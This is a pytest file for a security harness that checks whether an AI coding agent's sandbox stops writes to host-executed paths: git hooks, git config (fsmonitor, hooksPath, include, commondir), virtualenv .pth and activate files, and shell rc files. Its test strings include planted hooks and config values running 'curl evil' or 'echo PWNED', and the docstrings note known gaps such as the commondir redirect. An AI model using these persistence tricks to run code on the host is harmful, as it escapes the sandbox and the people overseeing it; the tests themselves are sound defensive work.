"""Read-only bind mounts over what the host runs by itself: `.git/hooks`, `.git/config`, `.venv`,
`venv`; `.git` is a mount point, so it cannot be renamed away from them. The control is the same
sandbox without those read-only mounts: there the same writes land in the host's folder."""

from __future__ import annotations

import subprocess

import pytest
from secharness import AGENT_DIR, CHANGE_REPORT, RO_MOUNT, TMPFS, assert_allowed, assert_stopped

ROFS = "Read-only file system"


@pytest.fixture(scope="module")
def writable(control):
    return control(RO_MOUNT)


@pytest.mark.parametrize(
    "script",
    [
        pytest.param("printf '#!/bin/sh\\ncurl evil\\n' > .git/hooks/pre-commit", id="git-hook-pre-commit"),
        pytest.param("cp .git/hooks/pre-commit.sample .git/hooks/post-checkout 2>&1 || "
                     "touch .git/hooks/post-checkout", id="git-hook-post-checkout"),
        pytest.param("git config core.fsmonitor 'curl evil #'", id="git-config-fsmonitor"),
        pytest.param("git config core.hooksPath /workspace/hooks", id="git-config-hookspath"),
        pytest.param("echo '[include] path=/workspace/evil.cfg' >> .git/config", id="git-config-include"),
        pytest.param("echo 'import os; os.system(\"id\")' > .venv/lib/python3.11/site-packages/evil.pth",
                     id="venv-pth"),
        pytest.param("echo 'curl evil' >> .venv/bin/activate", id="venv-activate"),
    ],
)
def test_host_executable_paths_are_read_only(box, writable, script):
    """git rewrites its config by renaming a new file over it: a mount point, so EBUSY."""
    attack, control = box.sh(script), writable.sh(script)
    assert_stopped(RO_MOUNT, attack, lambda r: r.code != 0 and (ROFS in r.text or "resource busy" in r.text),
                   control=control, then=lambda r: r.code == 0)
    hook = box.workspace / ".git" / "hooks"
    assert not any(p.suffix != ".sample" for p in hook.iterdir())
    assert "fsmonitor" not in (box.workspace / ".git" / "config").read_text()


def test_git_dir_and_venv_cannot_be_moved_away(box, writable):
    """rename-git-dir: replacing .git or .venv wholesale would shed the read-only mounts in them."""
    script = "mv .venv .venv-old; rm -rf .git/hooks; ls -d .venv-old .git/hooks"
    attack = box.sh(script)
    try:
        control = writable.sh(script)
    finally:
        writable.sh("mv .venv-old .venv")
    assert_stopped(RO_MOUNT, attack, lambda r: "busy" in r.err and ROFS in r.err and r.out.strip() == ".git/hooks",
                   control=control, then=lambda r: r.out.strip() == ".venv-old")
    assert "busy" in box.sh("mv .git .git-old").err  # .git itself is a mount point


def test_twin_git_commit_still_works(box):
    res = box.sh(
        "echo hi > committed.txt && git add committed.txt && "
        "git -c user.name=a -c user.email=a@b commit -qm test && git log --oneline | wc -l"
    )
    assert_allowed(res, RO_MOUNT, res.code == 0 and res.out.strip() == "1")
    git = ["git", "-c", "safe.directory=*", "-C", str(box.workspace)]
    log = subprocess.run([*git, "log", "--oneline"], capture_output=True, text=True)
    assert "test" in log.stdout


def test_git_commondir_redirect_is_reported(box):
    """git-commondir-redirect: a read-only mount cannot cover a file that does not exist yet, so
    an agent-written .git/commondir (pointing the host's git at the agent's config) is not
    stopped; the change report names it after the cell (SECURITY.md: known limit, reported)."""
    from pimagic import workspace as changes

    before = changes.snapshot(box.workspace)
    box.sh("mkdir -p /workspace/.x && cp -r .git/refs .git/HEAD /workspace/.x/ && "
           "printf '[core]\\n\\tfsmonitor = echo PWNED\\n' > /workspace/.x/config && "
           "echo /workspace/.x > .git/commondir")
    try:
        diff = changes.diff(before, changes.snapshot(box.workspace))
        assert ".git/commondir" in diff.host_executable, f"expected {CHANGE_REPORT}: {diff}"
    finally:
        box.sh("rm -rf .git/commondir /workspace/.x")


def test_shell_rc_files_live_in_the_tmpfs_home(box):
    """bashrc-persistence: ~/.bashrc, ~/.profile are in a tmpfs: gone at restart, never on the host."""
    res = box.sh("echo 'curl evil' >> ~/.bashrc && echo 'x' >> ~/.profile && findmnt -no FSTYPE /home/pi")
    assert_stopped(TMPFS, res, lambda r: r.out.strip() == "tmpfs",
                   no_control="the home is a tmpfs by construction; no start option mounts it from the host")
    assert not (box.workspace / ".bashrc").exists() and not (box.pi_dir / ".bashrc").exists()


def test_pi_extension_in_the_agent_dir_is_a_documented_limit(box):
    """pi-extension-persistence: pi's agent dir is rw (sessions, login), so an extension dropped
    there persists; pi starts with --no-extensions, so it does not load (test_channels proves it)."""
    res = box.sh(f"mkdir -p {AGENT_DIR}/extensions && echo 'export default () => {{}}' > {AGENT_DIR}/extensions/x.ts")
    assert res.code == 0, res
    assert (box.pi_dir / "extensions" / "x.ts").exists()
    box.sh(f"rm -rf {AGENT_DIR}/extensions")
